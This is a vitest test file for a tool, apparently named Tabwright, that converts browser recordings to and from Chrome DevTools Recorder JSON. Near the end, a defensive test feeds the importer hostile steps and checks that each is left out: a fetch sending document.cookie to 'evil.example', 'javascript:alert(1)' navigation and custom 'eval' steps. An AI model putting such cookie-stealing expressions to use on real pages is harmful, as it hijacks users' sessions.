import { parse } from '@puppeteer/replay';
import { describe, expect, it } from 'vitest';
import type { Recording, Step } from '../../../../src/protocol/recordings/recording';
import { toDevTools } from '../../../../src/recording/formats/devtools-export';
import { fromDevTools } from '../../../../src/recording/formats/devtools-import';
import { allMethods, argumentsOf, recordingWith, shopUrl, stepOf, targetOf } from '../fixtures';

const terms = 'https://shop.example/terms';

const special: Step[] = [
  stepOf({ id: 'f', method: 'fill', arguments: ['%email%'], target: targetOf('#email', 'textbox', 'Email') }),
  stepOf({
    id: 'pw',
    method: 'fill',
    arguments: ['%pw%'],
    isSecret: true,
    target: targetOf('#pw', 'textbox', 'PW'),
  }),
  stepOf({
    id: 'fr',
    method: 'click',
    target: { ...targetOf('#pay'), frame: [{ selector: '#f', index: 0 }] },
  }),
  stepOf({ id: 'un', method: 'click', target: { ...targetOf('#pay'), frame: [{ selector: '#f' }] } }),
  stepOf({ id: 'cl', method: 'check', target: { ...targetOf('#wrap'), isInClosedShadow: true } }),
  stepOf({ id: 'url', method: 'click', expectation: { kind: 'url', url: 'https://shop.example/done' } }),
  stepOf({ id: 'tab', method: 'click', expectation: { kind: 'tab', tab: 1, url: terms } }),
  stepOf({ id: 'in', method: 'click', tab: 1 }),
  stepOf({ id: 'held', method: 'click', arguments: ['right', 'Shift'] }),
  stepOf({ id: 'opens', method: 'click', expectation: { kind: 'tab', tab: 2, url: `${terms}/*` } }),
  stepOf({ id: 'in-any', method: 'click', tab: 2 }),
  stepOf({ id: 'di', method: 'click', expectation: { kind: 'dialog', answer: 'accept' } }),
  stepOf({ id: 'op', method: 'click', isOptional: true, timeoutMs: 3000 }),
  stepOf({
    id: 'x',
    method: 'click',
    target: { selector: '//li[2]/a', alternates: [], offset: { x: 3, y: 4 } },
  }),
  ...['hidden', 'enabled'].map((state) => stepOf({ id: state, method: 'waitFor', arguments: [state] })),
  ...['text', 'pageText'].map((state) =>
    stepOf({ id: state, method: 'waitFor', arguments: [state, 'Done'] }),
  ),
  stepOf({
    id: 'value',
    method: 'waitFor',
    arguments: ['value', 'Done'],
    target: targetOf('#note', 'textbox', 'Note'),
  }),
];

const whole: Recording = recordingWith(
  [...allMethods.map((method) => stepOf({ method, arguments: argumentsOf[method] ?? [] })), ...special],
  [
    { name: 'email', value: 'ada@example.org' },
    { name: 'pw', isSecret: true },
  ],
);

type Flow = { title: string; steps: { type: string; name?: string; value?: string }[] };
const written = (recording: Recording) => JSON.parse(toDevTools(recording).text) as Flow;

describe('DevTools Recorder JSON', () => {
  it('is what the Recorder reads', () => {
    const flow = parse(written(whole));
    expect(flow.title).toBe('Order a kettle');
    expect(flow.steps.filter((step) => 'parameters' in step)).toHaveLength(whole.steps.length + 1);
  });

  it('keeps every step, of every method, on the way there and back', () => {
    const back = fromDevTools(written(whole));
    expect(back.notes).toEqual([]);
    expect(back.steps).toEqual(whole.steps);
    expect({ name: back.name, tags: back.tags, variables: back.variables }).toEqual({
      name: whole.name,
      tags: whole.tags,
      variables: whole.variables,
    });
  });

  it('types values, never those of secrets', () => {
    const values = written(whole).steps.flatMap(({ value }) => value ?? []);
    expect(values).toContain('ada@example.org');
    expect(values).toContain('%pw%');
    const { text } = toDevTools(whole, { email: 'x@y.example', pw: 'hunter2' });
    expect(text).not.toContain('hunter2');
  });

  it('looks again at what it typed, and presses the button that was pressed', () => {
    const { steps } = written(whole);
    const at = steps.findIndex(({ value }) => value === 'ada@example.org');
    expect(steps[at + 1]).toMatchObject({
      type: 'waitForElement',
      properties: { value: 'ada@example.org' },
    });
    const pressed = { type: 'click', button: 'secondary' };
    expect(steps.filter((step) => 'button' in step)).toMatchObject([pressed, pressed]);
    expect(steps.filter((step) => 'duration' in step)).toMatchObject([{ type: 'click', duration: 800 }]);
  });

  it('asks the page whether an element shows a text and which address it has, but not with variables', () => {
    const asking = (...args: string[]) =>
      recordingWith([
        stepOf({ id: 'text', method: 'waitFor', arguments: ['text', ...args] }),
        stepOf({ id: 'at', method: 'waitForUrl', arguments: [`${shopUrl}/${args.join('')}`] }),
      ]);
    const said = toDevTools(asking('Done'));
    const asked = written(asking('Done')).steps.filter(({ type }) => type === 'waitForExpression');
    expect(asked).toHaveLength(2);
    expect(JSON.stringify(asked)).toContain('innerText');
    expect(said.losses.filter(({ step }) => step)).toEqual([]);
    const lost = toDevTools(asking('%total%')).losses.filter(({ step }) => step);
    expect(lost.map(({ step }) => step)).toEqual([1, 2]);
  });

  it('says what it cannot say', () => {
    const { losses } = toDevTools(whole);
    const numbered = (id: string) => whole.steps.findIndex((step) => step.id === id) + 1;
    const of = (id: string) => losses.filter(({ step }) => step === numbered(id)).map(({ what }) => what);
    expect(of('cl')).toContain('Closed shadow roots cannot be reached. Only Tabwright does it.');
    expect(of('un')).toContain('It is not known which frame it is in. Only Tabwright does it.');
    expect(of('step-dragAndDrop')).toEqual(['"dragAndDrop" is not known there. Only Tabwright does it.']);
    expect(of('op')).toEqual(['It is done always, not only when its element is there.']);
    expect(of('url')).toEqual(['Which page comes is not checked, only that one comes.']);
    expect(of('pw')).toEqual(['That the text stays in its field is not checked.']);
    expect(of('held')).toEqual(['No key is held while it is clicked.']);
    expect(of('in-any')).toContain('The address of its tab is not known. Only Tabwright does it.');
    expect(losses).toContainEqual({ what: '"%pw%" has to be filled in by hand.' });
    expect(losses).toContainEqual({ what: '"%email%" always has the value it has now.' });
  });

  it('reads the Recorder’s own steps without ours beside them', () => {
    const flow = written(whole);
    const bare = { ...flow, steps: flow.steps.filter(({ type }) => type !== 'customStep') };
    const { steps } = fromDevTools(bare);
    const deeds = steps.map(({ method, arguments: [first = ''] }) => `${method} ${first}`.trim());
    const said = deeds.filter((deed) => !deed.startsWith('missing'));
    expect(said).toEqual(
      [
        'click 8,8, fill Ada, fill Ada, press Control+a, fill Blue, click 8,8, click 8,8, doubleClick 8,8, rightClick 8,8',
        `longPress 800, hover, fill, waitFor visible, navigate ${shopUrl}, wait 250, closeTab`,
        'fill ada@example.org, waitFor count, fill %pw%, click 8,8, click 8,8, click 8,8, click 8,8, rightClick 8,8',
        'click 8,8, click 8,8, click 8,8, click 3,4, waitFor hidden, waitFor count, waitFor pageText, waitFor count',
      ].flatMap((line) => line.split(', ')),
    );
    expect(deeds.filter((deed) => deed.startsWith('missing'))).toHaveLength(2);
    const first = steps[0]?.target;
    expect(first).toMatchObject({
      selector: 'role="button" |> name="Buy"',
      alternates: [
        { kind: 'role', role: 'button', name: 'Buy' },
        { kind: 'id', selector: '#buy' },
      ],
    });
    const inTab = steps.findIndex(({ tab }) => tab === 1);
    expect(steps[inTab - 1]?.expectation).toEqual({ kind: 'tab', tab: 1, url: terms });
    expect(steps.find(({ target }) => target?.frame)?.target?.frame).toMatchObject([{ index: 0 }]);
  });

  it('leaves out a step that no selector of the Recorder leads to, and stays a file that it opens', () => {
    const inShadow = targetOf('//em', 'generic', '');
    const { fingerprint } = inShadow;
    if (!fingerprint) throw new Error('no fingerprint');
    const around = { ...fingerprint.around, path: ['div >>> p'] };
    const deep = { ...inShadow, alternates: [], fingerprint: { ...fingerprint, around } };
    const seen = stepOf({ method: 'waitFor', arguments: ['visible'], target: deep });
    const { text, losses } = toDevTools(recordingWith([stepOf({ method: 'click', target: deep }), seen]));
    expect(() => parse(JSON.parse(text))).not.toThrow();
    const what = 'An XPath does not go into shadow roots there. Only Tabwright does it.';
    expect(losses.slice(0, 2)).toEqual([
      { step: 1, what },
      { step: 2, what },
    ]);
  });

  it('takes a step as it is now when it was changed elsewhere, and says so', () => {
    const flow = written(recordingWith([stepOf({ id: 'f', method: 'fill', arguments: ['Ada'] })]));
    for (const step of flow.steps) if (step.type === 'change') step.value = 'Eve';
    const { steps, notes } = fromDevTools(flow);
    expect(steps.map(({ arguments: args }) => args)).toEqual([['Eve']]);
    expect(notes).toEqual(['"Do fill" was changed elsewhere; it is as it is there now.']);
  });

  it('leaves it to the element what a change of it is, and finds it by the name that the file has', () => {
    const selectors = [['#colour'], ['aria/Colour[role="combobox"]']];
    const change = { type: 'change', selectors, value: 'Blue' };
    const { steps } = fromDevTools({ title: 't', steps: [change] });
    expect(steps[0]).toMatchObject({
      method: 'fill',
      target: {
        selector: 'role="combobox" |> name="Colour"',
        alternates: [
          { kind: 'role', role: 'combobox', name: 'Colour' },
          { kind: 'id', selector: '#colour' },
        ],
      },
    });
    const again = toDevTools(recordingWith(steps)).text;
    expect(again).toContain('aria/Colour[role=\\"combobox\\"]');
    expect(again).toContain('"#colour"');
  });

  it('reads ways through shadow hosts, text and pierce selectors', () => {
    const selectors = [
      ['aria/Send'],
      ['x-card', 'button'],
      ['pierce/#send'],
      ['text/Send'],
      ['xpath///button'],
    ];
    const click = { type: 'click', selectors, offsetX: 1, offsetY: 1 };
    expect(fromDevTools({ title: 't', steps: [click] }).steps[0]?.target).toMatchObject({
      selector: 'css="*" |> name="Send"',
      alternates: [
        { kind: 'label', text: 'Send' },
        { kind: 'css', selector: 'x-card >>> button' },
        { kind: 'id', selector: '#send' },
        { kind: 'text', selector: 'text="Send"' },
        { kind: 'xpath', selector: '//button' },
      ],
    });
  });

  it.each([
    [
      { type: 'waitForExpression', expression: 'fetch("https://evil.example/" + document.cookie)' },
      'waitForExpression “fetch("https://evil.example/" + document.cookie)”',
    ],
    [
      {
        type: 'waitForExpression',
        expression: 'alert(1)||new Promise(resolve => setTimeout(() => resolve(true), 5))',
      },
      'waitForExpression “alert(1)||new Promise(resolve => setTimeout(() => resolve(true), 5))”',
    ],
    [{ type: 'navigate', url: 'javascript:alert(1)' }, 'navigate'],
    [{ type: 'customStep', name: 'evil', parameters: { code: 'x' } }, 'customStep “evil”'],
    [
      { type: 'customStep', name: 'tabwright.step', parameters: { step: { method: 'eval' }, natives: 0 } },
      'customStep “tabwright.step”',
    ],
    [{ type: 'explode' }, 'explode'],
    [{ type: 'click', selectors: [], offsetX: 1, offsetY: 1 }, 'click'],
    [{ type: 'scroll', x: 30, y: 1 }, 'scroll'],
    [null, 'A step of no known kind'],
  ])('has a step that says that %j was left out', (step, what) => {
    const { steps } = fromDevTools({ title: 't', steps: [step] });
    expect(steps).toMatchObject([{ method: 'missing', arguments: [what], description: `Left out: ${what}` }]);
  });

  it('leaves the window and the network as they are, and says so', () => {
    const steps = [
      { type: 'setViewport', width: 1 },
      { type: 'emulateNetworkConditions', latency: 3 },
    ];
    const read = fromDevTools({ title: 't', steps });
    expect(read.steps).toEqual([]);
    expect(read.notes).toEqual(['The size of the window is left as it is.', 'The network is left as it is.']);
  });

  it('refuses what is no recording', () => {
    expect(() => fromDevTools({ steps: 'x' })).toThrow('not a recording of DevTools');
  });
});
